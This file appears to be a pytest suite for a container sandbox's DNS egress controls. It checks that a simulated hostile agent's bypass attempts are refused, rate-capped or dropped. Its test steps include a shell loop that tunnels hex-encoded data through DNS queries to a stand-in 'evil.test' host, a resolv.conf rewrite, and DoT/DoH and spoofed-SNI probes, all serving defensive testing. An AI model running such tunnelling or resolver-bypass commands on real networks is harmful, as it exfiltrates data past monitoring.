"""A hostile agent in a container sandbox against the DNS path.

The sandbox's /etc/resolv.conf names the router's resolver; whatever server the agent
names instead, every packet to port 53 lands there (DNAT). Names outside its policy are
refused and never reach the upstream (the internet's DNS server logs every name).
"""

from __future__ import annotations

import asyncio
import os
import socket
import ssl
from collections.abc import AsyncIterator

import pytest
from dnslib import QTYPE, DNSRecord

from dsec.net import netns
from dsec.net.resolver import Resolver
from dsec.net.testinternet import (
    ALLOWED,
    DNS_UPSTREAM,
    DOT_PORT,
    HTTPS_PORT,
    SIBLING,
    TCP_ECHO_PORT,
)

from .test_egress_hostile import Env, env, images_dir, policy

pytestmark = [pytest.mark.root,
              pytest.mark.skipif(os.geteuid() != 0, reason="needs root (CI runs as root)")]

__all__ = ["env", "images_dir"]  # fixtures shared with test_egress_hostile


@pytest.fixture
async def dns(env: Env) -> AsyncIterator[Resolver]:
    r = Resolver(env.net, upstreams=[(DNS_UPSTREAM, 53)], upstream_netns_fd=env.internet.fd,
                 timeout_s=1.0, forward_burst=5, forward_rate=1)
    await r.start()
    try:
        yield r
    finally:
        await r.close()


async def lookup(env: Env, sid: str, name: str, server: str = "") -> str:
    return await env.sh(sid, f"nslookup -timeout=2 {name} {server}; echo rc=$?")


async def test_allowed_name_resolves_and_is_reachable_only_as_allowed(
        env: Env, dns: Resolver) -> None:
    sid = await env.create(policy("allowed.test:80/tcp"))
    assert (await env.sh(sid, "cat /etc/resolv.conf")).startswith("nameserver 10.213.255.254")
    out = await lookup(env, sid, "allowed.test")
    assert f"Address: {ALLOWED}" in out and "rc=0" in out, out
    assert (await env.tool(sid, "tcp", ALLOWED, "80", "hi")) == f"OK ok {ALLOWED}:80"
    # the name's address, but another port: not allowed
    assert (await env.tool(sid, "tcp", ALLOWED, str(TCP_ECHO_PORT), "x")).startswith("ERR")
    assert env.internet.dns_queries == ["allowed.test."]


async def test_other_names_and_other_resolvers_are_refused_and_never_forwarded(
        env: Env, dns: Resolver) -> None:
    sid = await env.create(policy("allowed.test:80/tcp"))
    for server in ("", DNS_UPSTREAM, "198.51.100.7"):
        out = await lookup(env, sid, "sibling.test", server)
        assert SIBLING not in out and "rc=1" in out, (server, out)
    # resolv.conf rewritten to the upstream: still dsec's resolver answering
    await env.sh(sid, f"echo nameserver {DNS_UPSTREAM} > /etc/resolv.conf")
    out = await lookup(env, sid, "sibling.test")
    assert SIBLING not in out and "rc=1" in out, out
    out = await lookup(env, sid, "allowed.test")
    assert f"Address: {ALLOWED}" in out, out
    assert env.internet.dns_queries == ["allowed.test."]
    assert env.internet.arrived(port=53) == []


async def test_dns_tunnelling_is_refused_or_capped(env: Env, dns: Resolver) -> None:
    sid = await env.create(policy("allowed.test:80/tcp", "*.wild.test:443/tcp"))
    label = "6578666" * 8  # 56 hex chars: a label of data
    await env.sh(sid, "for i in $(seq 1 20); do nslookup -timeout=1 "
                 f"{label}.$i.evil.test >/dev/null 2>&1; "
                 f"nslookup -type=txt -timeout=1 $i.allowed.test >/dev/null 2>&1; done",
                 timeout_s=120)
    assert env.internet.dns_queries == []
    # a wildcard the agent controls is the one channel left: capped by the bucket
    await env.sh(sid, "for i in $(seq 1 30); do nslookup -timeout=1 "
                 f"{label}$i.wild.test >/dev/null 2>&1; done", timeout_s=120)
    forwarded = [q for q in env.internet.dns_queries if q.endswith(".wild.test.")]
    assert 1 <= len(forwarded) < 30, len(forwarded)
    assert dns.stats.rate_limited >= 1


async def test_dot_doh_and_spoofed_sni_go_nowhere(env: Env, dns: Resolver) -> None:
    """Real TLS servers (443: HTTPS and DoH, 853: DoT) on every test host log each
    accept, each ClientHello's SNI and each request: what a policy refuses never
    arrives there, whatever the ClientHello names."""
    sid = await env.create(policy("allowed.test:443/tcp", f"{ALLOWED}:{DOT_PORT}/tcp"))
    await lookup(env, sid, "allowed.test")
    # control: the same probe to an allowed address is answered, and its SNI logged
    out = await env.tool(sid, "tls", ALLOWED, str(HTTPS_PORT), "allowed.test")
    assert out == "OK serverhello", out
    assert env.internet.wait_for(proto="sni", dst=ALLOWED, data=b"allowed.test")
    assert (await env.tool(sid, "tls", ALLOWED, str(DOT_PORT), "dot.test")) == "OK serverhello"
    assert env.internet.wait_for(proto="sni", dst=ALLOWED, port=DOT_PORT)
    # DoT and DoH to a resolver address the policy does not name
    for port in (DOT_PORT, HTTPS_PORT):
        out = await env.tool(sid, "tls", DNS_UPSTREAM, str(port), "dns.google")
        assert out.startswith("ERR connect"), out
    # a ClientHello naming the allowed host, sent to another address: dropped at L3
    out = await env.tool(sid, "tls", SIBLING, str(HTTPS_PORT), "allowed.test")
    assert out.startswith("ERR connect"), out
    await asyncio.sleep(0.2)
    assert env.internet.arrived(dst=DNS_UPSTREAM, port=DOT_PORT) == []
    assert env.internet.arrived(dst=DNS_UPSTREAM, port=HTTPS_PORT) == []
    assert env.internet.arrived(dst=SIBLING) == []
    assert [h.dst for h in env.internet.arrived(proto="sni")] == [ALLOWED, ALLOWED]


def https_get(slot_fd: int, resolver: str, name: str, port: int, ca: str) -> str:
    """From inside the sandbox's netns (its slot, its policy): ask dsec's resolver for
    ``name``, then GET ``https://name:port/hello`` verifying the certificate against
    ``ca`` (busybox's static wget cannot resolve names without glibc's NSS modules, which
    the busybox image lacks, so the client is Python; every packet still leaves from the
    sandbox's netns). Returns the body, or "ERR <what>"."""
    with netns.entered(slot_fd):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        u.settimeout(3)
        u.sendto(DNSRecord.question(name).pack(), (resolver, 53))
        reply = DNSRecord.parse(u.recv(4096))
        addrs = [str(rr.rdata) for rr in reply.rr if rr.rtype == QTYPE.A]
        if not addrs:
            return f"ERR dns {reply.header.rcode}"
        c.settimeout(3)
        c.connect((addrs[0], port))
        ctx = ssl.create_default_context(cafile=ca)
        with ctx.wrap_socket(c, server_hostname=name) as t:
            t.sendall(f"GET /hello HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
            data = b""
            while chunk := t.recv(4096):
                data += chunk
        return data.decode(errors="replace").split("\r\n\r\n", 1)[-1]
    except OSError as exc:
        return f"ERR {exc}"
    finally:
        u.close()
        c.close()


async def test_https_to_the_allowed_name_works(env: Env, dns: Resolver) -> None:
    """HTTPS from the sandbox's netns to the allowed name: resolved by dsec's resolver
    (which pins the address), certificate verified, the server saw the name as SNI; the
    same name on a port the rule does not name, and the sibling name, get nothing."""
    sid = await env.create(policy("allowed.test:443/tcp"))
    slot = env.net.slot(sid)
    assert slot is not None
    resolver = str(env.router.pool.resolver)
    body = await asyncio.to_thread(https_get, slot.fd, resolver, "allowed.test", 443,
                                   env.internet.ca_file)
    assert body == f"ok https {ALLOWED}:443\n", body
    assert env.internet.arrived(proto="sni", dst=ALLOWED, data=b"allowed.test")
    [req] = env.internet.arrived(proto="https", dst=ALLOWED)
    assert req.data.startswith(b"GET /hello HTTP/1.1") and b"Host: allowed.test" in req.data
    out = await asyncio.to_thread(https_get, slot.fd, resolver, "allowed.test", 8080,
                                  env.internet.ca_file)
    assert out.startswith("ERR"), out
    assert env.internet.arrived(dst=ALLOWED, port=8080) == []  # a listener is there
    out = await asyncio.to_thread(https_get, slot.fd, resolver, "sibling.test", 443,
                                  env.internet.ca_file)
    assert out.startswith("ERR dns"), out
    assert len(env.internet.arrived(proto="https")) == 1
